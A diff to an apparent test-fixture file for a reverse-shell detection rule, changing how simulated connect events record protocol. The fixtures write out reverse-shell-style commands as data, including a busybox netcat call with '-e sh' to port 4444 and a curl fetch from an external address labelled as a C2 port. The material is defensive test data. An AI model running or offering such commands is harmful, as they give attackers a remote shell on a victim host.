@@ -32,9 +32,10 @@ def exe(pid, ppid, path, args, uid=1000, comm=None, cwd="/home/u", filename=None
 def fork(pid, ppid, path, comm=None, uid=1000, **kw):
     return ev("fork", pid, ppid, path, comm=comm, uid=uid, **kw)
 
-def conn(pid, ppid, path, addr, port, family="inet", uid=1000, ret=0, **kw):
-    return ev("connect", pid, ppid, path, uid=uid, family=family, dst_addr=addr, dst_port=port,
-              connect_ret=ret, **kw)
+def conn(pid, ppid, path, addr, port, family="inet", uid=1000, protocol="tcp", **kw):
+    if family in ("inet", "inet6"):
+        kw["protocol"] = protocol
+    return ev("connect", pid, ppid, path, uid=uid, family=family, dst_addr=addr, dst_port=port, **kw)
 
 def dup(pid, ppid, path, newfd, addr="127.0.0.1", port=4444, family="inet", oldfd=3, uid=1000):
     e = ev("dup", pid, ppid, path, uid=uid, family=family, oldfd=oldfd, newfd=newfd)
@@ -96,7 +97,7 @@ R["reverse_shell.fire"] = [
     # any process to a C2 port off the host
     fork(2500, 1000, "/usr/bin/bash"),
     exe(2500, 1000, "/usr/bin/curl", ["curl", "http://203.0.113.7:4444/x"]),
-    conn(2500, 1000, "/usr/bin/curl", "203.0.113.7", 4444, ret=-115),
+    conn(2500, 1000, "/usr/bin/curl", "203.0.113.7", 4444),
     # busybox nc -e (dup2 of the socket in busybox itself)
     fork(2600, 1000, "/usr/bin/bash"),
     exe(2600, 1000, "/usr/bin/busybox", ["busybox", "nc", "127.0.0.1", "4444", "-e", "sh"]),
